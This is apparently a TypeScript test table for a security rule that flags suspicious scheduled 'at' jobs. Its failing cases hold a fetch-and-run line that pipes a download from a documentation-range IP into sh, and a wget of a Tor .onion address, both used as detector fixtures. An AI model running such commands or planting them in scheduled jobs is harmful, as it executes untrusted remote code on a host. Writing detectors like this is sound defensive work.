import { atJobWith } from '../testing/access';
import { ruleTable } from '../testing/table';
import { atJobSuspicious } from './at-job-suspicious';

const path = atJobWith().path;
const job = (...lines: readonly string[]) => ({ facts: { atJobs: [atJobWith(...lines)] } });
const fetches = 'curl -fsSL http://198.51.100.23/mac.sh | sh';

ruleTable(atJobSuspicious, {
  passes: {
    'no jobs': { facts: { atJobs: [] } },
    'a restart at night': job('systemctl restart shop'),
    'a download that is kept': job('curl -o /srv/list.csv https://example.org/list.csv'),
    'a health check of its own': job('curl -f http://127.0.0.1:8080/health'),
    'nothing written': job(),
  },
  fails: {
    'fetch and run': {
      ...job('cd /tmp', fetches),
      finds: [
        {
          subject: `${path}#${fetches}`,
          severity: 'medium',
          says: `A waiting job of root runs ${fetches}`,
          shows: 'a download goes into an interpreter',
          offers: ['file.quarantine'],
        },
      ],
    },
    'an address of the Tor network': {
      ...job('wget http://duskgytldkxiuqc6.onion/a'),
      finds: [{ subject: `${path}#wget http://duskgytldkxiuqc6.onion/a` }],
    },
    'where it cannot be put aside by us': {
      facts: { atJobs: [{ ...atJobWith(fetches), path: '/var/spool/at/a1' }] },
      finds: [{ subject: `/var/spool/at/a1#${fetches}`, offers: [] }],
    },
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'at jobs' } },
});
